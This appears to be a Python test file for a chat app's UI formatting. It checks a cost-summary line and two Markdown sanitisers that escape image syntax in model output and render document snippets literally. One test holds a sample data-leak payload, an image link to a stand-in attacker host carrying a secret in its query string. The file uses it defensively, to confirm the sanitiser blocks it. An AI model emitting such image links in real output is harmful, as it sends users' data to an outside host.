"""The cost line's wording and the Markdown guards on model output and document text."""

from __future__ import annotations

import re

from app.costs.meter import CostRecord
from app.ui.format import cost_line, inert_markdown, literal_markdown


def test_cost_line_names_every_figure():
    cost = CostRecord(
        prompt_tokens=200,
        completion_tokens=24,
        total_params=1.5e9,
        active_params_per_token=4e8,
        sparsity_saving=0.61,
        energy_joules=12.34,
        energy_source="measured",
        total_usd=0.00002,
        cloud_usd={"gpt-4o": 0.0007, "gpt-4o-mini": 0.00004},
        wall_seconds=3.21,
    ).to_dict()
    assert cost_line(cost) == (
        "200+24 tokens · 3.2 s · 400M of 1.5B params active · 12.3 J measured · $0.000020 · "
        "61% FLOPs saved vs dense · 50% cheaper than gpt-4o-mini"
    )
    cost["total_usd"] = 0.0001
    assert cost_line(cost).endswith("2.5× the cost of gpt-4o-mini")


def test_model_output_cannot_load_images_and_is_safe_piecewise():
    text = "See ![leak](http://evil.example/?q=secret) now!"
    assert not re.search(r"(?<!\\)!\[", inert_markdown(text))  # every `![` is escaped
    pieces = ["See !", "[leak](http://evil.example/?q=secret) now", "!"]
    assert "".join(inert_markdown(p) for p in pieces) == inert_markdown(text)


def test_snippets_are_shown_literally():
    out = literal_markdown("**bold** <script>x</script> [a](b)")
    assert "**" not in out.replace("\\*", "") and "<script>" not in out.replace("\\<", "")
